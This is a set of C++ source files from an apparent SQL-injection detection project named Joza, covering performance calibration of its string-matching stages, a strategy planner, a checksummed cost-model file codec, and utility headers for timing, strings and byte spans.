Status ValidateModel(const CostModel& model);

// Built-in fallback defaults: the one remaining home of the legacy
// hand-tuned constants. A Planner without a model reproduces the original
// decision rules from these — nti, pti and the gateway must never consult
// them directly.
//
// Fewer unresolved inputs than this always take per-input find() in the
// staged exact stage (legacy NtiConfig::multi_pattern_min_inputs).
inline constexpr std::size_t kDefaultMultiPatternMinInputs = 4;
// One multi-pattern automaton scan only beats memchr-driven per-input
// find() when inputs x query_bytes >= this x total_value_bytes — the
// automaton's dense nodes cost ~1 KiB of zeroed memory per pattern byte
// (legacy kAutomatonAmortization in nti/pipeline.cpp).
inline constexpr std::size_t kDefaultAutomatonAmortization = 64;
// Smallest admission batch worth a shared BatchScope automaton (legacy
// GatewayConfig::batch_min).
inline constexpr std::size_t kDefaultBatchScopeMinRequests = 2;

}  // namespace joza::costmodel
