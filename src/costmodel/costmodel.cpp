#include "costmodel/costmodel.h"

#include <cmath>
#include <string>

namespace joza::costmodel {

const char* StageName(Stage stage) {
  switch (stage) {
    case Stage::kAcBuild: return "ac_build";
    case Stage::kAcScan: return "ac_scan";
    case Stage::kFind: return "find";
    case Stage::kQgramBuild: return "qgram_build";
    case Stage::kQgramReject: return "qgram_reject";
    case Stage::kMyers: return "myers";
    case Stage::kSellers: return "sellers";
  }
  return "?";
}

Status ValidateModel(const CostModel& model) {
  for (std::size_t i = 0; i < kStageCount; ++i) {
    const StageCurve& c = model.stages[i];
    const char* name = StageName(static_cast<Stage>(i));
    if (!std::isfinite(c.base_ns) || !std::isfinite(c.per_byte_ns)) {
      return Status::InvalidArgument(std::string("cost model stage ") + name +
                                     ": non-finite coefficient");
    }
    if (c.base_ns < 0.0 || c.per_byte_ns < 0.0) {
      return Status::InvalidArgument(std::string("cost model stage ") + name +
                                     ": negative coefficient");
    }
    if (c.base_ns > kMaxPlausibleNs || c.per_byte_ns > kMaxPlausibleNs) {
      return Status::InvalidArgument(std::string("cost model stage ") + name +
                                     ": implausible coefficient");
    }
  }
  return Status::Ok();
}

}  // namespace joza::costmodel
