// JZCM01: the persisted cost-model artifact.
//
// Same fail-closed shape as the JZSNAP01 ruleset snapshot codec
// (resilience/snapshot.h): little-endian fixed-width fields, a trailing
// FNV-1a checksum verified BEFORE any field is decoded, bounds-checked
// reads, and schema/stage-name matching so a format skew can never be
// silently misread. Parse failures bump a global counter and return an
// error Status — callers fall back to the Planner's built-in defaults,
// never to a partially-decoded model.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "costmodel/costmodel.h"
#include "util/status.h"

namespace joza::costmodel {

inline constexpr char kCostModelMagic[6] = {'J', 'Z', 'C', 'M', '0', '1'};
inline constexpr std::uint32_t kCostModelSchema = 1;

// magic + schema + per-stage (name, curve) records + sample count + FNV-1a
// checksum over everything before the trailer.
std::string EncodeCostModel(const CostModel& model);

// Checksum-first, fail-closed parse. A syntactically valid image whose
// coefficients fail ValidateModel (NaN/inf, negative, implausible) is
// rejected too: a correct checksum only proves the file is what its
// producer wrote, not that its producer was sane.
StatusOr<CostModel> ParseCostModel(std::string_view image);

// Write-tmp / fsync / rename, like the ruleset snapshot sink.
Status SaveCostModel(const std::string& path, const CostModel& model);

// Reads + ParseCostModel. A missing file is kNotFound (counted separately
// from malformed images: absence is the normal uncalibrated state).
StatusOr<CostModel> LoadCostModel(const std::string& path);

// Fail-closed accounting, readable from stats dumps and the fuzz suite:
// every malformed artifact must show up here, never as a crash or a
// mis-planned decision.
struct CodecStats {
  std::uint64_t parses_ok = 0;
  std::uint64_t parse_failures = 0;
};
CodecStats GetCodecStats();
void ResetCodecStats();

}  // namespace joza::costmodel
