#include "costmodel/calibrate.h"

#include <algorithm>
#include <atomic>
#include <cmath>
#include <cstdint>
#include <random>
#include <string>
#include <utility>
#include <vector>

#include "match/aho_corasick.h"
#include "match/myers.h"
#include "match/qgram.h"
#include "match/substring.h"
#include "util/stopwatch.h"

namespace joza::costmodel {

namespace {

// Defeats dead-code elimination of the measured kernels without perturbing
// the timed region (one relaxed store per measured batch).
std::atomic<std::uint64_t> g_sink{0};

// (feature_bytes, measured_ns) pairs, one per timed batch.
using Samples = std::vector<std::pair<double, double>>;

std::string RandomText(std::mt19937_64& rng, std::size_t length) {
  static constexpr char kAlphabet[] =
      "abcdefghijklmnopqrstuvwxyz0123456789_ ='";
  std::uniform_int_distribution<std::size_t> pick(0, sizeof(kAlphabet) - 2);
  std::string text;
  text.reserve(length);
  for (std::size_t i = 0; i < length; ++i) text.push_back(kAlphabet[pick(rng)]);
  return text;
}

// Times `reps` invocations of `body` and records one per-call sample.
template <typename Fn>
void Measure(Samples& samples, double feature_bytes, std::size_t reps,
             Fn&& body) {
  std::uint64_t sink = 0;
  Stopwatch watch;
  for (std::size_t r = 0; r < reps; ++r) sink += body();
  const double ns = watch.ElapsedSeconds() * 1e9 / static_cast<double>(reps);
  g_sink.fetch_add(sink, std::memory_order_relaxed);
  samples.emplace_back(feature_bytes, ns);
}

// Ordinary least squares y = base + per_byte * x, clamped to the
// plausibility envelope ValidateModel enforces (timer noise on tiny
// workloads can fit a slightly negative intercept).
StageCurve FitLinear(const Samples& samples) {
  StageCurve curve;
  if (samples.empty()) return curve;
  double sx = 0, sy = 0;
  for (const auto& [x, y] : samples) {
    sx += x;
    sy += y;
  }
  const double n = static_cast<double>(samples.size());
  const double mx = sx / n, my = sy / n;
  double sxx = 0, sxy = 0;
  for (const auto& [x, y] : samples) {
    sxx += (x - mx) * (x - mx);
    sxy += (x - mx) * (y - my);
  }
  curve.per_byte_ns = sxx > 0 ? sxy / sxx : 0.0;
  curve.base_ns = my - curve.per_byte_ns * mx;
  curve.per_byte_ns = std::clamp(curve.per_byte_ns, 0.0, kMaxPlausibleNs);
  curve.base_ns = std::clamp(curve.base_ns, 0.0, kMaxPlausibleNs);
  return curve;
}

struct Grid {
  std::vector<std::size_t> vocab_sizes;    // == unresolved input counts
  std::vector<std::size_t> pattern_lens;
  std::vector<std::size_t> text_lens;
  std::vector<double> thresholds;
  std::size_t reps;
};

Grid MakeGrid(bool quick) {
  if (quick) {
    return {{4, 32}, {4, 32}, {64, 1024}, {0.1, 0.3}, 24};
  }
  return {{2, 4, 16, 64, 256},
          {2, 4, 8, 16, 32, 64},
          {32, 64, 256, 1024, 4096, 16384},
          {0.1, 0.2, 0.3},
          160};
}

std::vector<std::string> MakePatterns(std::mt19937_64& rng, std::size_t count,
                                      std::size_t length) {
  std::vector<std::string> patterns;
  patterns.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    patterns.push_back(RandomText(rng, length));
  }
  return patterns;
}

}  // namespace

CostModel Calibrate(const CalibrationOptions& options) {
  std::mt19937_64 rng(options.seed);
  const Grid grid = MakeGrid(options.quick);
  Samples samples[kStageCount];
  auto at = [&samples](Stage stage) -> Samples& {
    return samples[static_cast<std::size_t>(stage)];
  };

  // --- kAcBuild: vocabulary-size x pattern-length (the NTI exact stage
  // builds one pattern per unresolved input, so vocabulary == input count).
  for (const std::size_t vocab : grid.vocab_sizes) {
    for (const std::size_t len : grid.pattern_lens) {
      const auto patterns = MakePatterns(rng, vocab, len);
      const double bytes = static_cast<double>(vocab * len);
      // Builds are the expensive stage; scale reps down with size.
      const std::size_t reps = std::max<std::size_t>(1, grid.reps / 8);
      Measure(at(Stage::kAcBuild), bytes, reps, [&patterns] {
        match::AhoCorasick ac;
        for (std::size_t i = 0; i < patterns.size(); ++i) {
          ac.Add(patterns[i], static_cast<std::int32_t>(i));
        }
        ac.Build();
        return static_cast<std::uint64_t>(ac.node_count());
      });
    }
  }

  // --- kAcScan: text-length sweep over a fixed mid-size automaton.
  {
    match::AhoCorasick ac;
    const auto patterns = MakePatterns(rng, 16, 8);
    for (std::size_t i = 0; i < patterns.size(); ++i) {
      ac.Add(patterns[i], static_cast<std::int32_t>(i));
    }
    ac.Build();
    for (const std::size_t len : grid.text_lens) {
      const std::string text = RandomText(rng, len);
      Measure(at(Stage::kAcScan), static_cast<double>(len), grid.reps,
              [&ac, &text] {
                std::uint64_t hits = 0;
                ac.Scan(text, [&hits](const match::AhoCorasick::Hit&) {
                  ++hits;
                });
                return hits;
              });
    }
  }

  // --- kFind: haystack-length sweep, needle absent (the common case — a
  // benign query rarely contains the probed value).
  for (const std::size_t len : grid.text_lens) {
    const std::string query = RandomText(rng, len);
    const std::string needle = "\x01\x02\x03zq!";  // outside the alphabet
    Measure(at(Stage::kFind), static_cast<double>(len), grid.reps,
            [&query, &needle] {
              return static_cast<std::uint64_t>(query.find(needle) !=
                                                std::string::npos);
            });
  }

  // --- kQgramBuild: indexed text length (the fixed bitset dominates the
  // base term; the gram insertion loop the slope).
  for (const std::size_t len : grid.text_lens) {
    const std::string text = RandomText(rng, len);
    const std::size_t reps = std::max<std::size_t>(1, grid.reps / 4);
    Measure(at(Stage::kQgramBuild), static_cast<double>(len), reps, [&text] {
      const match::QGramIndex index(text);
      return static_cast<std::uint64_t>(index.CountPresent(text));
    });
  }

  // --- kQgramReject: probed input length x threshold (the threshold sets
  // the distance bound the counting argument is evaluated against).
  {
    const match::QGramIndex index(RandomText(rng, 1024));
    for (const std::size_t len : grid.pattern_lens) {
      for (const double threshold : grid.thresholds) {
        const std::string input = RandomText(rng, len);
        const auto bound = static_cast<std::size_t>(
            std::ceil(threshold * static_cast<double>(len) /
                      (1.0 - threshold)));
        Measure(at(Stage::kQgramReject), static_cast<double>(len), grid.reps,
                [&index, &input, bound] {
                  return static_cast<std::uint64_t>(
                      index.Rejects(input, bound));
                });
      }
    }
  }

  // --- kMyers: query bytes streamed through the kernel (input length is
  // capped at the 64-byte word anyway).
  for (const std::size_t len : grid.text_lens) {
    const std::string query = RandomText(rng, len);
    const std::string input = RandomText(rng, 24);
    if (!match::MyersEligible(input)) continue;
    Measure(at(Stage::kMyers), static_cast<double>(len), grid.reps,
            [&query, &input] {
              return static_cast<std::uint64_t>(
                  match::MyersMinDistance(query, input));
            });
  }

  // --- kSellers: DP cell count (query bytes x input bytes) x threshold.
  for (const std::size_t qlen : grid.text_lens) {
    if (qlen > 4096) continue;  // the DP grid gets quadratic; cap the sweep
    const std::string query = RandomText(rng, qlen);
    for (const std::size_t ilen : grid.pattern_lens) {
      for (const double threshold : grid.thresholds) {
        const std::string input = RandomText(rng, ilen);
        const auto bound = static_cast<std::size_t>(
            std::ceil(threshold * static_cast<double>(ilen) /
                      (1.0 - threshold)));
        const std::size_t reps = std::max<std::size_t>(1, grid.reps / 8);
        Measure(at(Stage::kSellers), static_cast<double>(qlen * ilen), reps,
                [&query, &input, bound] {
                  return static_cast<std::uint64_t>(
                      match::BestSubstringMatchBounded(query, input, bound)
                          .distance);
                });
      }
    }
  }

  CostModel model;
  std::uint64_t total = 0;
  for (std::size_t i = 0; i < kStageCount; ++i) {
    model.stages[i] = FitLinear(samples[i]);
    total += samples[i].size();
  }
  model.calibration_samples = total;
  return model;
}

}  // namespace joza::costmodel
