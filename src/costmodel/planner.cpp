#include "costmodel/planner.h"

#include <algorithm>

namespace joza::costmodel {

namespace {

// Nominal per-request shapes for decisions that run before any request is
// parsed (batch admission) or before any query exists (ruleset build).
// These stand in for the live features the calibrated curves are applied
// to; they only need to be the right order of magnitude.
constexpr double kNominalQueryBytes = 128.0;
constexpr double kNominalValueBytes = 16.0;
constexpr double kNominalInputsPerRequest = 4.0;

}  // namespace

const char* ExactStrategyName(ExactStrategy strategy) {
  switch (strategy) {
    case ExactStrategy::kPerInputFind: return "find";
    case ExactStrategy::kAutomaton: return "automaton";
  }
  return "?";
}

ExactStrategy Planner::PlanExactStage(
    const ExactStageFeatures& features) const {
  if (!model_) {
    // Legacy heuristic, bit-for-bit: at least the multi-pattern input
    // floor, and enough scanned query bytes per input to amortize the
    // automaton's ~1 KiB-per-pattern-byte build cost.
    const bool automaton =
        features.input_count >= kDefaultMultiPatternMinInputs &&
        features.input_count * features.query_bytes >=
            kDefaultAutomatonAmortization * features.total_value_bytes;
    return automaton ? ExactStrategy::kAutomaton
                     : ExactStrategy::kPerInputFind;
  }
  // Calibrated: build one automaton over every unresolved value and scan
  // the query once, vs one find() pass over the query per input. A single
  // input can never amortize a build, whatever the curves say.
  if (features.input_count < 2) return ExactStrategy::kPerInputFind;
  const double automaton_ns =
      model_->curve(Stage::kAcBuild)
          .Eval(static_cast<double>(features.total_value_bytes)) +
      model_->curve(Stage::kAcScan)
          .Eval(static_cast<double>(features.query_bytes));
  const double find_ns =
      static_cast<double>(features.input_count) *
      model_->curve(Stage::kFind)
          .Eval(static_cast<double>(features.query_bytes));
  return automaton_ns <= find_ns ? ExactStrategy::kAutomaton
                                 : ExactStrategy::kPerInputFind;
}

bool Planner::PlanBatchScope(std::size_t requests) const {
  // A batch of one amortizes nothing under any model.
  if (requests < 2) return false;
  if (!model_) return requests >= kDefaultBatchScopeMinRequests;
  // One shared automaton build over the whole batch plus one cached scan,
  // vs each of the `requests` checks paying its own build + scan. The
  // build is linear in pattern bytes, so sharing saves (n-1) base
  // overheads and (n-1) scans of repeated queries.
  const double n = static_cast<double>(requests);
  const double per_request_value_bytes =
      kNominalInputsPerRequest * kNominalValueBytes;
  const double shared_ns =
      model_->curve(Stage::kAcBuild).Eval(n * per_request_value_bytes) +
      model_->curve(Stage::kAcScan).Eval(kNominalQueryBytes);
  const double per_check_ns =
      n * (model_->curve(Stage::kAcBuild).Eval(per_request_value_bytes) +
           model_->curve(Stage::kAcScan).Eval(kNominalQueryBytes));
  return shared_ns <= per_check_ns;
}

RulesetPlan Planner::PlanRuleset(
    const std::vector<std::size_t>& pattern_lengths,
    bool allow_automaton) const {
  RulesetPlan plan;
  plan.calibrated = calibrated();
  plan.vocabulary = pattern_lengths.size();
  for (const std::size_t len : pattern_lengths) {
    plan.total_pattern_bytes += len;
    plan.min_pattern_len =
        plan.min_pattern_len == 0 ? len : std::min(plan.min_pattern_len, len);
    plan.max_pattern_len = std::max(plan.max_pattern_len, len);
    const std::size_t bucket = len <= 2   ? 0
                               : len <= 4  ? 1
                               : len <= 8  ? 2
                               : len <= 16 ? 3
                               : len <= 32 ? 4
                                           : 5;
    ++plan.length_histogram[bucket];
  }
  if (!allow_automaton) {
    // Ablation override (PtiConfig::use_aho_corasick = false): the naive
    // per-fragment scan is forced regardless of cost.
    plan.use_automaton = false;
  } else if (!model_) {
    // Legacy default: the eagerly built automaton always serves.
    plan.use_automaton = true;
  } else {
    // One automaton pass over the query vs one find() pass per fragment.
    const double automaton_ns =
        model_->curve(Stage::kAcScan).Eval(kNominalQueryBytes);
    const double naive_ns =
        static_cast<double>(plan.vocabulary) *
        model_->curve(Stage::kFind).Eval(kNominalQueryBytes);
    plan.use_automaton = plan.vocabulary > 0 && automaton_ns <= naive_ns;
    plan.predicted_scan_ns = plan.use_automaton ? automaton_ns : naive_ns;
  }
  return plan;
}

}  // namespace joza::costmodel
