// The one strategy-decision API for the whole matcher stack.
//
// Three call sites used to reimplement (and drift) the same amortization
// arithmetic: the staged NTI exact stage (automaton vs per-input find),
// the epoll gateway's batched admission (shared BatchScope automaton vs
// per-check work), and the PTI ruleset's scan-strategy choice. All three
// now route through a Planner:
//
//   * Without a model (default), every decision reproduces the legacy
//     hand-tuned heuristics bit-for-bit from the kDefault* constants in
//     costmodel.h — a missing or corrupt artifact changes nothing.
//   * With a calibrated model, decisions compare the measured per-stage
//     cost curves directly.
//
// Strategy choice can never change a verdict (every strategy is
// verdict-identical by construction); the Planner only chooses where the
// cycles go. The differential suites hold that property even under
// adversarially wrong models.
#pragma once

#include <cstddef>
#include <memory>
#include <vector>

#include "costmodel/costmodel.h"

namespace joza::costmodel {

// How the staged exact stage resolves its unresolved inputs.
enum class ExactStrategy {
  kPerInputFind,  // one std::string::find scan of the query per input
  kAutomaton,     // one multi-pattern Aho-Corasick scan over all inputs
};

const char* ExactStrategyName(ExactStrategy strategy);

struct ExactStageFeatures {
  std::size_t input_count = 0;       // unresolved eligible inputs
  std::size_t total_value_bytes = 0; // sum of their value lengths
  std::size_t query_bytes = 0;       // intercepted query length
};

// Snapshot-time plan for one PTI ruleset: pattern-shape statistics plus
// the chosen scan strategy, precomputed once at Ruleset build so the
// per-check hot path does a table lookup, not arithmetic.
struct RulesetPlan {
  bool use_automaton = true;  // chosen exact-scan strategy
  bool calibrated = false;    // decision came from a measured model
  std::size_t vocabulary = 0;          // fragment count
  std::size_t total_pattern_bytes = 0;
  std::size_t min_pattern_len = 0;     // 0 when the vocabulary is empty
  std::size_t max_pattern_len = 0;
  // Pattern-length distribution: 1-2, 3-4, 5-8, 9-16, 17-32, 33+.
  std::size_t length_histogram[6] = {0, 0, 0, 0, 0, 0};
  // Predicted per-query exact-scan cost under the chosen strategy (0 when
  // uncalibrated — the builtin path predicts nothing, it just decides).
  double predicted_scan_ns = 0.0;
};

class Planner {
 public:
  // Builtin-defaults planner (legacy heuristics).
  Planner() = default;
  // Calibrated planner. A null model degrades to builtin defaults, so
  // callers can pass a config's (possibly empty) shared model through.
  explicit Planner(std::shared_ptr<const CostModel> model)
      : model_(std::move(model)) {}

  bool calibrated() const { return model_ != nullptr; }
  const CostModel* model() const { return model_.get(); }

  // Staged NTI exact stage: one multi-pattern automaton scan vs per-input
  // find() over the unresolved inputs.
  ExactStrategy PlanExactStage(const ExactStageFeatures& features) const;

  // Epoll batched admission: is a batch of `requests` parsed requests
  // worth one shared BatchScope automaton? (The admission path sees
  // sockets, not parsed inputs, so the calibrated decision compares
  // nominal per-request shapes.)
  bool PlanBatchScope(std::size_t requests) const;

  // PTI ruleset scan strategy, computed once at snapshot build.
  // `allow_automaton` carries the PtiConfig::use_aho_corasick ablation
  // override: false forces the naive per-fragment scan regardless of cost.
  RulesetPlan PlanRuleset(const std::vector<std::size_t>& pattern_lengths,
                          bool allow_automaton) const;

 private:
  std::shared_ptr<const CostModel> model_;
};

}  // namespace joza::costmodel
