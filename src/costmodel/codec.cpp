#include "costmodel/codec.h"

#include <fcntl.h>
#include <unistd.h>

#include <atomic>
#include <bit>
#include <cerrno>
#include <cstring>

#include "util/hash.h"

namespace joza::costmodel {

namespace {

std::atomic<std::uint64_t> g_parses_ok{0};
std::atomic<std::uint64_t> g_parse_failures{0};

Status ParseFailure(const std::string& message) {
  g_parse_failures.fetch_add(1, std::memory_order_relaxed);
  return Status::ParseError(message);
}

void PutU64(std::string& out, std::uint64_t v) {
  for (int i = 0; i < 8; ++i) {
    out.push_back(static_cast<char>((v >> (8 * i)) & 0xff));
  }
}

void PutU32(std::string& out, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) {
    out.push_back(static_cast<char>((v >> (8 * i)) & 0xff));
  }
}

void PutF64(std::string& out, double v) {
  PutU64(out, std::bit_cast<std::uint64_t>(v));
}

// Bounds-checked little-endian reads; false = truncated image.
bool GetU64(std::string_view image, std::size_t& pos, std::uint64_t& v) {
  if (image.size() - pos < 8) return false;
  v = 0;
  for (int i = 0; i < 8; ++i) {
    v |= static_cast<std::uint64_t>(
             static_cast<unsigned char>(image[pos + i]))
         << (8 * i);
  }
  pos += 8;
  return true;
}

bool GetU32(std::string_view image, std::size_t& pos, std::uint32_t& v) {
  if (image.size() - pos < 4) return false;
  v = 0;
  for (int i = 0; i < 4; ++i) {
    v |= static_cast<std::uint32_t>(
             static_cast<unsigned char>(image[pos + i]))
         << (8 * i);
  }
  pos += 4;
  return true;
}

bool GetF64(std::string_view image, std::size_t& pos, double& v) {
  std::uint64_t bits = 0;
  if (!GetU64(image, pos, bits)) return false;
  v = std::bit_cast<double>(bits);
  return true;
}

bool GetBytes(std::string_view image, std::size_t& pos, std::size_t len,
              std::string_view& out) {
  if (image.size() - pos < len) return false;
  out = image.substr(pos, len);
  pos += len;
  return true;
}

}  // namespace

std::string EncodeCostModel(const CostModel& model) {
  std::string out;
  out.append(kCostModelMagic, sizeof(kCostModelMagic));
  PutU32(out, kCostModelSchema);
  PutU32(out, static_cast<std::uint32_t>(kStageCount));
  for (std::size_t i = 0; i < kStageCount; ++i) {
    const std::string_view name = StageName(static_cast<Stage>(i));
    PutU32(out, static_cast<std::uint32_t>(name.size()));
    out.append(name);
    PutF64(out, model.stages[i].base_ns);
    PutF64(out, model.stages[i].per_byte_ns);
  }
  PutU64(out, model.calibration_samples);
  PutU64(out, Fnv1a64(out));
  return out;
}

StatusOr<CostModel> ParseCostModel(std::string_view image) {
  constexpr std::size_t kHeader = sizeof(kCostModelMagic) + 4 + 4;
  constexpr std::size_t kTrailer = 8;  // checksum
  if (image.size() < kHeader + kTrailer) {
    return ParseFailure("cost model truncated: " +
                        std::to_string(image.size()) + " bytes");
  }
  if (std::memcmp(image.data(), kCostModelMagic, sizeof(kCostModelMagic)) !=
      0) {
    return ParseFailure("cost model magic mismatch (format skew?)");
  }
  // Checksum covers everything before the trailing 8 bytes. Verify first so
  // a bit flip anywhere — including in the length fields the decoder below
  // trusts — is caught before decoding.
  const std::string_view body = image.substr(0, image.size() - kTrailer);
  std::size_t tail_pos = image.size() - kTrailer;
  std::uint64_t stored_sum = 0;
  GetU64(image, tail_pos, stored_sum);
  if (Fnv1a64(body) != stored_sum) {
    return ParseFailure("cost model checksum mismatch");
  }

  std::size_t pos = sizeof(kCostModelMagic);
  std::uint32_t schema = 0, stages = 0;
  if (!GetU32(body, pos, schema) || !GetU32(body, pos, stages)) {
    return ParseFailure("cost model header truncated");
  }
  if (schema != kCostModelSchema) {
    return ParseFailure("cost model schema " + std::to_string(schema) +
                        " unsupported (want " +
                        std::to_string(kCostModelSchema) + ")");
  }
  if (stages != kStageCount) {
    return ParseFailure("cost model stage count " + std::to_string(stages) +
                        " != " + std::to_string(kStageCount));
  }
  CostModel model;
  for (std::size_t i = 0; i < kStageCount; ++i) {
    const std::string_view expected = StageName(static_cast<Stage>(i));
    std::uint32_t name_len = 0;
    std::string_view name;
    if (!GetU32(body, pos, name_len) ||
        !GetBytes(body, pos, name_len, name) ||
        !GetF64(body, pos, model.stages[i].base_ns) ||
        !GetF64(body, pos, model.stages[i].per_byte_ns)) {
      return ParseFailure("cost model stage " + std::to_string(i) +
                          " truncated");
    }
    // Stage identity is matched by name, not position alone: an artifact
    // written by a build that reordered or renamed stages must be refused,
    // not silently applied to the wrong stage.
    if (name != expected) {
      return ParseFailure("cost model stage " + std::to_string(i) +
                          " named '" + std::string(name) + "', want '" +
                          std::string(expected) + "'");
    }
  }
  if (!GetU64(body, pos, model.calibration_samples)) {
    return ParseFailure("cost model sample count truncated");
  }
  if (pos != body.size()) {
    return ParseFailure("cost model has trailing garbage");
  }
  if (const Status plausible = ValidateModel(model); !plausible.ok()) {
    g_parse_failures.fetch_add(1, std::memory_order_relaxed);
    return plausible;
  }
  g_parses_ok.fetch_add(1, std::memory_order_relaxed);
  return model;
}

Status SaveCostModel(const std::string& path, const CostModel& model) {
  const std::string image = EncodeCostModel(model);
  const std::string tmp = path + ".tmp";
  const int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) {
    return Status::Unavailable("cost model open failed: " +
                               std::string(std::strerror(errno)));
  }
  std::size_t off = 0;
  while (off < image.size()) {
    const ssize_t n = ::write(fd, image.data() + off, image.size() - off);
    if (n < 0) {
      if (errno == EINTR) continue;
      const int saved = errno;
      ::close(fd);
      ::unlink(tmp.c_str());
      return Status::Unavailable("cost model write failed: " +
                                 std::string(std::strerror(saved)));
    }
    off += static_cast<std::size_t>(n);
  }
  if (::fsync(fd) != 0) {
    const int saved = errno;
    ::close(fd);
    ::unlink(tmp.c_str());
    return Status::Unavailable("cost model fsync failed: " +
                               std::string(std::strerror(saved)));
  }
  if (::close(fd) != 0) {
    ::unlink(tmp.c_str());
    return Status::Unavailable("cost model close failed: " +
                               std::string(std::strerror(errno)));
  }
  if (::rename(tmp.c_str(), path.c_str()) != 0) {
    const int saved = errno;
    ::unlink(tmp.c_str());
    return Status::Unavailable("cost model rename failed: " +
                               std::string(std::strerror(saved)));
  }
  return Status::Ok();
}

StatusOr<CostModel> LoadCostModel(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) {
    return Status::NotFound("no cost model at " + path + ": " +
                            std::string(std::strerror(errno)));
  }
  std::string image;
  char buf[1 << 14];
  for (;;) {
    const ssize_t n = ::read(fd, buf, sizeof(buf));
    if (n < 0) {
      if (errno == EINTR) continue;
      const int saved = errno;
      ::close(fd);
      return Status::Unavailable("cost model read failed: " +
                                 std::string(std::strerror(saved)));
    }
    if (n == 0) break;
    image.append(buf, static_cast<std::size_t>(n));
  }
  ::close(fd);
  return ParseCostModel(image);
}

CodecStats GetCodecStats() {
  CodecStats stats;
  stats.parses_ok = g_parses_ok.load(std::memory_order_relaxed);
  stats.parse_failures = g_parse_failures.load(std::memory_order_relaxed);
  return stats;
}

void ResetCodecStats() {
  g_parses_ok.store(0, std::memory_order_relaxed);
  g_parse_failures.store(0, std::memory_order_relaxed);
}

}  // namespace joza::costmodel
