// Calibration: measure the matcher stages on this machine and fit the
// per-stage cost curves.
//
// The sweep times every Stage over an input-count x pattern-length x
// threshold x vocabulary-size grid (the automaton stages treat the
// vocabulary size as the input count — one pattern per unresolved input is
// exactly how the NTI exact stage uses it), then least-squares fits the
// linear StageCurve per stage. Workloads are generated from a seeded PRNG,
// so two runs on one machine produce closely matching models; the absolute
// numbers are machine-specific by design — that is the point.
//
// Used by tools/joza_calibrate (which persists the JZCM01 artifact) and by
// the benchkit costmodel suite (which calibrates in-process so the
// parity/no-regression gate needs no file path).
#pragma once

#include <cstdint>

#include "costmodel/costmodel.h"

namespace joza::costmodel {

struct CalibrationOptions {
  // Shrinks the grid and repetition counts for CI (seconds, not minutes).
  bool quick = false;
  std::uint64_t seed = 2015;
};

CostModel Calibrate(const CalibrationOptions& options = {});

}  // namespace joza::costmodel
