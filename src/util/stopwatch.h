// Wall-clock stopwatch for the per-component timing breakdowns (Fig. 7/8).
#pragma once

#include <chrono>

namespace joza {

class Stopwatch {
 public:
  Stopwatch() : start_(Clock::now()) {}

  void Reset() { start_ = Clock::now(); }

  double ElapsedSeconds() const {
    return std::chrono::duration<double>(Clock::now() - start_).count();
  }

  double ElapsedMicros() const { return ElapsedSeconds() * 1e6; }

 private:
  using Clock = std::chrono::steady_clock;
  Clock::time_point start_;
};

// Accumulates time across many scopes, for component-level breakdowns.
class TimeBucket {
 public:
  void Add(double seconds) {
    total_ += seconds;
    ++count_;
  }
  double total_seconds() const { return total_; }
  std::size_t count() const { return count_; }
  void Reset() {
    total_ = 0;
    count_ = 0;
  }

 private:
  double total_ = 0;
  std::size_t count_ = 0;
};

// RAII helper: adds the scope's duration to a bucket on destruction.
class ScopedTimer {
 public:
  explicit ScopedTimer(TimeBucket& bucket) : bucket_(bucket) {}
  ~ScopedTimer() { bucket_.Add(watch_.ElapsedSeconds()); }

  ScopedTimer(const ScopedTimer&) = delete;
  ScopedTimer& operator=(const ScopedTimer&) = delete;

 private:
  TimeBucket& bucket_;
  Stopwatch watch_;
};

}  // namespace joza
