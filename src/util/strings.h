// ASCII string helpers shared across Joza modules.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace joza {

char AsciiToLower(char c);
char AsciiToUpper(char c);
bool IsAsciiSpace(char c);
bool IsAsciiDigit(char c);
bool IsAsciiAlpha(char c);
bool IsAsciiAlnum(char c);

std::string ToLower(std::string_view s);
std::string ToUpper(std::string_view s);

// Case-insensitive ASCII comparison.
bool EqualsIgnoreCase(std::string_view a, std::string_view b);

std::string_view TrimLeft(std::string_view s);
std::string_view TrimRight(std::string_view s);
std::string_view Trim(std::string_view s);

std::vector<std::string> Split(std::string_view s, char sep);
std::string Join(const std::vector<std::string>& parts, std::string_view sep);

// Replaces every occurrence of `from` (non-empty) with `to`.
std::string ReplaceAll(std::string_view s, std::string_view from,
                       std::string_view to);

// PHP addslashes(): backslash-escape single quote, double quote, backslash
// and NUL. This is the "magic quotes" transformation WordPress enforces.
std::string AddSlashes(std::string_view s);

// PHP stripslashes(): inverse of AddSlashes.
std::string StripSlashes(std::string_view s);

// Collapses runs of ASCII whitespace to a single space.
std::string CollapseWhitespace(std::string_view s);

// True if `needle` occurs in `haystack` ignoring ASCII case.
bool ContainsIgnoreCase(std::string_view haystack, std::string_view needle);

// Index of the first case-insensitive occurrence, or npos.
std::size_t FindIgnoreCase(std::string_view haystack, std::string_view needle);

}  // namespace joza
