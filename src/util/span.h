// Byte-range span over a query string, the unit of taint marking.
#pragma once

#include <algorithm>
#include <cstddef>
#include <string>
#include <vector>

namespace joza {

// Half-open byte range [begin, end) into some externally-owned string.
struct ByteSpan {
  std::size_t begin = 0;
  std::size_t end = 0;

  std::size_t length() const { return end - begin; }
  bool empty() const { return begin >= end; }
  bool contains(const ByteSpan& other) const {
    return begin <= other.begin && other.end <= end;
  }
  bool contains(std::size_t pos) const { return begin <= pos && pos < end; }
  bool overlaps(const ByteSpan& other) const {
    return begin < other.end && other.begin < end;
  }
  friend bool operator==(const ByteSpan&, const ByteSpan&) = default;
};

// Merges overlapping/adjacent spans; result is sorted and disjoint.
inline std::vector<ByteSpan> MergeSpans(std::vector<ByteSpan> spans) {
  if (spans.empty()) return spans;
  std::sort(spans.begin(), spans.end(), [](const ByteSpan& a, const ByteSpan& b) {
    return a.begin < b.begin || (a.begin == b.begin && a.end < b.end);
  });
  std::vector<ByteSpan> out;
  out.push_back(spans.front());
  for (std::size_t i = 1; i < spans.size(); ++i) {
    if (spans[i].begin <= out.back().end) {
      out.back().end = std::max(out.back().end, spans[i].end);
    } else {
      out.push_back(spans[i]);
    }
  }
  return out;
}

// True if `inner` is fully covered by one span in the (merged) list.
inline bool CoveredBySingle(const std::vector<ByteSpan>& spans,
                            const ByteSpan& inner) {
  for (const auto& s : spans) {
    if (s.contains(inner)) return true;
